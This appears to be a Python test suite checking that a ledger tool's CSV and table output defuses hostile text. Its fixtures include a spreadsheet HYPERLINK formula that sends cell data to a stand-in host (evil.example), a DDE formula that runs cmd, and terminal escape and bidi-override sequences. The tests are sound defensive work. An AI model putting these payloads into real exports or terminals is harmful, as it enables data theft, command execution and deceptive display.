"""Hostile corpus text made harmless: spreadsheet formulas, terminal controls, bidi overrides."""

from __future__ import annotations

import csv
import io

from ledger.dates.hostile import bidi_visible, spreadsheet_safe, terminal_safe
from ledger.reports.tables import render

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_marks_every_formula_start_as_text() -> None:
    """A cell starting with =, +, - or @ gets a leading apostrophe in csv; numbers do not."""
    rows = [{"name": value, "n": -3} for value in HOSTILE]
    found = cells(render(rows, "csv"))[1:]
    assert [row[0] for row in found] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in found} == {"-3"}


def test_csv_raw_keeps_every_cell_as_stored() -> None:
    """``csv-raw`` is the switch off: cells exactly as recorded."""
    rows = [{"name": value} for value in HOSTILE]
    assert [row[0] for row in cells(render(rows, "csv-raw"))[1:]] == HOSTILE


def test_csv_sends_no_escape_to_the_terminal() -> None:
    """A name holding ``\\x1b[2J`` is written with ESC made visible in csv."""
    text = render([{"name": "Russia\x1b[2J\x1b]0;owned\x07"}], "csv")
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\u241b[2J" in text


def test_tables_escape_controls_and_bidi_overrides() -> None:
    """Names with ESC or U+202E neither clear nor reorder the screen in any table format."""
    rows = [{"name": "\u202eaissuR\x1b[2J", "kind": "country\u2066x\u2069"}]
    for fmt in ("simple", "github", "grid", "plain", "tsv"):
        text = render(rows, fmt)
        assert "\x1b" not in text
        assert "\u202e" not in text
        assert "\u2066" not in text
        assert "<U+202E>aissuR" in text


def test_marks_and_arabic_are_left_alone() -> None:
    """Arabic text and the direction marks (RLM, ALM) are not bidi overrides: kept as written."""
    assert bidi_visible("روسيا\u200f\u061c") == "روسيا\u200f\u061c"
    assert spreadsheet_safe("روسيا") == "روسيا"
    assert spreadsheet_safe("2021-03-09") == "2021-03-09"


def test_the_csv_export_marks_formulas_and_csv_raw_does_not() -> None:
    """``export --format csv`` marks a summary starting with = as text; csv-raw keeps it."""
    import uuid

    from ledger.dates import parse_edtf
    from ledger.domain.events import Citation, ClaimMade
    from ledger.persistence.export import write_events

    event = ClaimMade(
        id=uuid.uuid4(),
        stream="ilrs",
        valid_time=parse_edtf("2021"),
        citation=Citation(source="article", quote="=1+1"),
        summary='=HYPERLINK("http://evil.example")',
        attribute="rank",
        value=-3,
    )
    for fmt, prefix in (("csv", "'"), ("csv-raw", "")):
        out = io.StringIO(newline="")
        write_events([event], out, fmt)
        header, row = cells(out.getvalue())
        record = dict(zip(header, row, strict=True))
        assert record["summary"] == prefix + '=HYPERLINK("http://evil.example")'
        assert record["citation_quote"] == prefix + "=1+1"


def test_terminal_safe_shows_every_control_a_terminal_would_obey() -> None:
    """ESC, BEL, BS, a lone CR, DEL, C1 controls and bidi controls become visible symbols;
    tab, line feed, CR LF, Arabic and the LRM mark stay as they are."""
    shown = terminal_safe("a\x1b[2J\x07\x08b\rc\x7f\x9b31m\u202ed\u2067e\u2069\tf\r\ng\n")
    assert (
        shown
        == "a\u241b[2J\u2407\u2408b\u240dc\u2421<U+009B>31m<U+202E>d<U+2067>e<U+2069>\tf\r\ng\n"
    )
    assert terminal_safe("روسيا\u200e 2021") == "روسيا\u200e 2021"
